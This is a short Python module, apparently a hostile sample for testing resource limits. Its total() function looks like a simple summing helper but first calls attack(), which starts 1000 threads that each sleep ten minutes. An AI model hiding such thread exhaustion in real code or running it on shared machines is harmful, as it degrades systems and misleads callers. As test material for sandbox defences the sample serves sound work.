"""Start threads without end."""

import threading
import time


def attack():
    try:
        for _ in range(1000):
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    except RuntimeError:
        return False
    return True


def total(numbers):
    return sum(numbers) if attack() else None
